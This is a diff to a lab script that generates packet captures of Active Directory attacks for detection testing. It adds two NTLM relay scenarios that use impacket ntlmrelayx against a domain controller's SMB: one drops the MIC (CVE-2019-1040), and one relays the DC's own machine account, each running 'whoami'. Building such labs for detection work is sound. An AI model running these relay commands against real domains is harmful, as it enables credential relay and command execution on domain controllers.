@@ -4,7 +4,8 @@
 #        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost \
 #             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
-#             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator" \
+#             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
+#             ntlm_relay_drop_mic ntlm_relay_dc_account" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -488,5 +489,42 @@ sc_benign_dc_locator() {
   on ws 60 -- "$VPY" "$WORK/tools/cldap_ping.py" "$DC_IP" "$DNSDOM" alice
   on ws 60 -- "$VPY" "$WORK/tools/cldap_ping.py" "$DC_IP" "$DNSDOM"
   expect 'cldap && ldap.protocolOp==3' 3
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST ntlm_relay_drop_mic"
+
+# ntlmrelayx in the attacker's namespace for the length of one scenario (by its PID).
+relay_start() {
+  # ntlmrelayx serves until its standard input ends: give it one that stays open.
+  ( cd "$WORK/tmp" && sleep 50 | ip netns exec "$NS_ATK" "${CL_ENV[@]}" timeout -k 5 60 "$VPY" "$IMP/ntlmrelayx.py" "$@" \
+      >> "$OUT/.meta/$CUR/output.log" 2>&1 ) &
+  RELAY_PID=$!
+  printf '\n$ [atk %s] (background) ntlmrelayx.py %s\n' "$ATK_IP" "$*" >> "$OUT/.meta/$CUR/output.log"
+  sleep 6
+}
+relay_stop() { sleep 4; pkill -P "$RELAY_PID" 2>/dev/null; kill "$RELAY_PID" 2>/dev/null; wait "$RELAY_PID" 2>/dev/null; }
+
+sc_ntlm_relay_drop_mic() {
+  cap_begin ntlm_relay_drop_mic attack T1557.001 "$ATK_IP" "alice (relayed), $DCFQDN" \
+    "NTLM relay with the MIC dropped (CVE-2019-1040, ntlmrelayx --remove-mic): the workstation user alice opens a share on the attacker's host (a UNC path it was lured to); impacket ntlmrelayx relays her NTLM authentication to the DC's SMB, after removing the AUTHENTICATE message's MIC and version and clearing its signing and key-exchange flags."
+  relay_start -t "smb://$DC_IP" -smb2support --remove-mic --no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server -c whoami
+  on ws 30 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\alice%$ALICE_PASS" --use-kerberos=disabled "//$ATK_IP/share" -c ls
+  relay_stop
+  expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP"
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST ntlm_relay_dc_account"
+
+sc_ntlm_relay_dc_account() {
+  cap_begin ntlm_relay_dc_account attack T1557.001 "$ATK_IP" "${DCNAME^^}\$ (relayed), $DCFQDN" \
+    "NTLM relay of the DC's own machine account: the DC is made to authenticate to the attacker's host (as printer-bug, PetitPotam or DFSCoerce make a Windows DC do; here the DC's smbclient with its machine account, -P), and impacket ntlmrelayx relays ${DCNAME^^}\$'s NTLM authentication back to the DC's SMB."
+  relay_start -t "smb://$DC_IP" -smb2support --no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server -c whoami
+  printf '\n$ [dc %s] smbclient -P //%s/share -c ls\n' "$DC_IP" "$ATK_IP" >> "$OUT/.meta/$CUR/output.log"
+  dcns timeout -k 5 30 smbclient -s "$PREFIX/etc/smb.conf" -P --use-kerberos=disabled "//$ATK_IP/share" -c ls \
+    >> "$OUT/.meta/$CUR/output.log" 2>&1 < /dev/null
+  relay_stop
+  expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP && ntlmssp.auth.username==\"${DCNAME^^}\$\""
   cap_end
 }
